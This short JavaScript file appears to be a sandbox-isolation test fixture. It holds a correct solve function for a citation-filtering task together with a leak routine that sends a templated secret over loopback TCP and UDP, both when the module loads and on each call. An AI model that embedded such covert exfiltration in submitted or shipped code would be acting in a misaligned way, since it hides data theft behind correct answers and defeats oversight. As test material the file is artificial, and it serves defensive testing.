// Sends a secret to a listener on the grader's machine over loopback (TCP and UDP), on load
// and in every call. Answers correctly; the test's listener must receive nothing.

const net = require("net");
const dgram = require("dgram");

const PORT = Number("@PORT@");
const SECRET = "@SECRET@";

function leak() {
  try {
    net.connect(PORT, "127.0.0.1", function () {
      this.end(SECRET);
    }).on("error", () => {});
  } catch {}
  try {
    const udp = dgram.createSocket("udp4");
    udp.on("error", () => {});
    udp.send(SECRET, PORT, "127.0.0.1", () => udp.close());
  } catch {}
}

leak();

function solve(citations, retrieved_ids) {
  leak();
  const known = new Set(retrieved_ids);
  return [...new Set(citations)].filter((id) => !known.has(id));
}

module.exports = { solve };
